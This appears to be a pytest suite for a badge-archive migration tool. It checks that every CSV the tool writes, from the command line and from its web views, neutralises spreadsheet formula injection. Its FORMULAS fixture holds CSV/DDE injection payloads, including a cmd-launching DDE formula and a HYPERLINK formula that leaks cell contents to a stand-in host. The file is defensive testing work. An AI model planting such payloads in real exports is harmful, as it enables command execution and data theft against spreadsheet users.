"""Every table this program writes, opened by a spreadsheet: hostile values are text in it."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from contextlib import closing
from pathlib import Path

import pytest

import migrator
from migrator.archive.archive import Archive
from migrator.files.table import cell
from migrator.sources.found import FoundCollection, FoundLearner, Membership, Problem
from migrator.web.desk import desk
from migrator.web.rights import Settings

FORMULAS = (
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    ' =HYPERLINK("http://x.example/?"&A1,"click")',
    "\u200b=1+1",
    "\uff1d1+1",
    "a;=1+1;b",
    '",=1+1,"',
)
PLACE = "badgr:http://127.0.0.1:9"
TABLES = {
    "status": (("status", "--csv"),),
    "groups": tuple(("status", "--by", by, "--csv") for by in ("issuer", "class", "cohort", "day")),
    "answer": (("status", "=who0@example.org", "--csv"), ("status", "cmd", "--csv")),
    "accounts": (("accounts", "list", "--to", PLACE, "--csv"),),
    "report": (("report", "--csv-pack", "out"),),
    "letters": (("report", "--letters", "out"),),
    "images": (("export", "images", "out"),),
    "documents": (("export", "documents", "out"),),
    "bag": (("export", "bagit", "out"),),
    "bulk": (("export", "bulk-award", "bulk.csv"),),
    "restored": (("restore", "out"),),
    "folder": (
        ("accounts", "import", "accounts.csv", "--to", "files:out"),
        ("plan", "--to", "files:out"),
        ("push", "--to", "files:out"),
    ),
    "site": (("export", "restore-site", "--host", "all", "--to", "out"),),
}


def holder(number):
    return f"{'=+-@'[number % 4]}who{number}@example.org"


@pytest.fixture
def hostile(tmp_path, reader, make, run):
    """Archive, plan and account for badges whose every word is a formula."""
    source = tmp_path / "=1+1.list"
    source.mkdir()
    outcomes = []
    for n, formula in enumerate(FORMULAS):
        badge_class = make.badge_class(
            n, name=formula, id=f"{make.host}/{n}", description=formula, criteria=formula
        )
        evidence = {"evidence": {"id": formula, "narrative": formula, "name": formula}}
        outcomes += [
            FoundLearner(formula, (holder(n),), formula),
            FoundCollection(f"group {n}", formula, holder(n), formula, formula),
            make.found(
                n,
                holder(n),
                locator=formula,
                assertion=make.json(make.assertion(n, holder(n), narrative=formula, **evidence)),
                badge_class=make.json(badge_class),
                issuer=make.json(make.issuer(name=formula, email=formula)),
                memberships=(Membership(formula, 1, formula),),
            ),
            Problem(formula, "odd", formula, formula.encode()),
        ]
    revoked = make.json(make.assertion(90, "plain@example.org", revoked=True))
    outcomes.append(make.found(90, "plain@example.org", locator="=r", assertion=revoked))
    path = tmp_path / "badge-archive.db"
    with Archive.open(path) as archive:
        reader.outcomes(archive, source, outcomes)
    accounts = [["email", "account"], *([holder(n), f"@{holder(n)}"] for n in range(len(FORMULAS)))]
    with (tmp_path / "accounts.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(accounts)
    run("accounts", "import", "accounts.csv", "--to", PLACE, expected=None)
    run("plan", "--to", PLACE, expected=None)
    return path


def is_inert(value):
    """Say whether no spreadsheet takes any part of a cell for a formula, wherever it divides it."""
    parts = re.split(r"[;\t]", value)
    return not any(re.match(r"[\s\u200b\ufeff]*[-=+@\uff1d]", part) for part in parts)


@pytest.mark.parametrize("command", TABLES)
def test_no_cell_of_any_table_is_a_formula(run, hostile, tmp_path, command):
    printed = ""
    for words in TABLES[command]:
        ran = run(*words, expected=None)
        assert ran.code in {0, 3, 5}, ran.err  # some badges lack something
        printed += ran.out
    written = [
        path.read_text(encoding="utf-8")
        for path in tmp_path.rglob("*.csv")
        if path.name != "accounts.csv"
    ]
    tables = [printed] if "--csv" in TABLES[command][0] else written
    cells = [one for text in tables for row in csv.reader(io.StringIO(text)) for one in row]
    assert len(cells) > 10
    assert [one for one in cells if not is_inert(one)] == []
    # Totals hold no word of anybody's; in all others the values are there, made harmless.
    assert command == "status" or any(re.match("'.*(1[+]1|who)", one) for one in cells)


DESK = (
    *("/totals.csv", "/find.csv?q=cmd", "/learner/1.csv", "/badge/1.csv", "/class/1.csv"),
    *("/issuer/1.csv", "/problems.csv", "/by/issuer.csv", "/by/class.csv", "/by/cohort.csv"),
    *("/archive/badge_class.csv?_stream=1", "/archive/learner.csv", "/archive/problem.csv"),
    "/archive/badge_class.csv?_dl=1",
    "/archive.csv?sql=select+name+as+'%3D1%2B1'+from+issuer",
)


def test_no_cell_of_the_desks_tables_is_a_formula(hostile):
    with closing(desk(Settings(hostile))) as site, asyncio.Runner() as runner:
        for path in DESK:
            answer = runner.run(site.client.get(path))
            assert answer.status_code == 200, path
            cells = [one for row in csv.reader(io.StringIO(answer.text)) for one in row]
            assert len(cells) > 1, path
            assert [one for one in cells if not is_inert(one)] == [], path


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_kept_and_made_text(formula):
    said = cell(formula)
    assert is_inert(said)
    assert said.replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize("text", ["", "plain", "a-b", "well; done ;-)", "a@x.example; b@x.example"])
def test_what_is_no_formula_is_left_alone(text):
    assert cell(text) == text


def test_tables_are_written_in_one_place():
    folder = Path(migrator.__file__).parent
    found = {
        path.relative_to(folder).as_posix()
        for path in folder.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)", path.read_text(encoding="utf-8"))
    }
    # The second writes again what it has read, cell by cell as it was.
    assert found <= {"files/table.py", "destinations/files/index.py"}
